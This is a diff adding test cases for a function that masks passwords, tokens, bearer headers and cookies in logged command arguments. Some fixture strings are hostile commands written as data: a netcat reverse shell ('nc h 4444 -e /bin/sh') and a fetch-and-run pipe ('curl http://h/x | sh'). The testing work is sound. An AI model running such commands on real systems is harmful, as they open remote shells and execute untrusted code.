@@ -24,6 +24,10 @@ test.each([
   [['ldapsearch', '-w', 'hush', '-x'], ['ldapsearch', '-w', '***', '-x']],
   [['bash', '-c', 'mysql --password=hush db; x --token abc def'], ['bash', '-c', 'mysql --password=*** db; x --token *** def']],
   [['sh', '-c', "PASSWORD='a b' x"], ['sh', '-c', 'PASSWORD=*** x']],
+  [['sh', '-c', 'curl -H "Authorization: Bearer a.b" h'], ['sh', '-c', 'curl -H "Authorization: ***" h']],
+  [['http', 'h', 'Authorization:Bearer a.b', 'x'], ['http', 'h', 'Authorization:***', 'x']],
+  [['wget', '--header=Cookie: a=b; c=d', 'h'], ['wget', '--header=Cookie: ***', 'h']],
+  [['sudo', '-n', 'mysql', '-phush'], ['sudo', '-n', 'mysql', '-p***']],
 ])('of %j the secrets go', (args, expected) => {
   expect(masked(...args)).toEqual(expected);
 });
@@ -38,9 +42,23 @@ test.each([
   [['curl', '-o', 'a:b', 'https://h:8443/']],
   [['git', 'clone', 'git@h:a/b']],
   [['grep', '-r', 'token', '/etc']],
+  [['bash', '-c', ': key: ;nc h 4444 -e /bin/sh']],
+  [['x', '--tokenizer', 'gpt2', '--max-tokens=100']],
+  [['docker', 'login', '--password-stdin', 'h']],
+  [['psql', '--no-password', 'db']],
+  [['ansible-playbook', '--ask-become-pass', 'site.yml']],
+  [['rsync', '--password-file=/etc/rsync']],
+  [['curl', '-d', '{"token_count": 5}']],
 ])('%j stays as it is', (args) => {
   expect(masked(...args)).toEqual(args);
   expect(withoutSecrets(Buffer.from(args.join('\0'))).isOpen).toBe(false);
+});
+
+test.each([
+  [['bash', '-c', 'echo token: ok && curl http://h/x | sh'], ['bash', '-c', 'echo token: *** && curl http://h/x | sh']],
+  [['python3', '-c', 'key: int = 1\nimport os'], ['python3', '-c', 'key: *** = 1\nimport os']],
+])('of %j nothing more goes than a value', (args, expected) => {
+  expect(masked(...args)).toEqual(expected);
 });
 
 test('bytes that are no text stay', () => {
